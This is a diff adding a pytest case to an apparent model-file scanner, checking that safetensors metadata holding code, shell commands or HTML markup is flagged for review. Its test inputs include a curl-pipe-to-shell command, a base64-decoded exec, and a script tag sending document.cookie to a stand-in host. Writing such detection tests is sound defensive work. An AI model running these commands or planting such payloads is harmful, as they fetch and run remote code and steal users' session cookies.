@@ -513,3 +513,25 @@ def test_joblib_array_is_stepped_over_and_what_lies_in_it_is_seen():
     assert verdict(wrapped(bytes(range(200, 250)), b"")) == "clean"
     assert verdict(wrapped(bytes(range(200, 250)), b"0" + system())) == "malicious"
     assert verdict(wrapped(system() + b"0", b"")) == "malicious"
+
+
+@pytest.mark.parametrize(
+    ("said", "rule"),
+    [
+        ("import os; os.system('touch /tmp/x')", "metadata.code"),
+        ("import base64; exec(base64.b64decode('cHJpbnQoMSk='))", "metadata.code"),
+        ("curl https://a.example/i.sh | sh", "metadata.command"),
+        ("<script>fetch('https://a.example/?c=' + document.cookie)</script>", "metadata.markup"),
+        ('<img src=x onerror="alert(1)">', "metadata.markup"),
+        ("eval() loss 0.2; import of data ok", None),
+        ("python train.py --lr 1e-4 --data /data/x && rm -rf /tmp/cache", None),
+        ("dict(lr=1e-4, steps=100)", None),
+        ("if a < b and c > d (see README)", None),
+        ("https://huggingface.co/org/name", None),
+    ],
+)
+def test_metadata_that_is_code_a_command_or_markup_is_for_a_person_to_look_at(said, rule):
+    header = json.dumps({"__metadata__": {"note": said}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}})
+    report = scan_bytes(struct.pack("<Q", len(header)) + header.encode() + bytes(8), "m.safetensors")
+    assert {reason.rule for reason in report.reasons} == ({rule} if rule else set())
+    assert report.verdict is (Verdict.REVIEW if rule else Verdict.CLEAN)
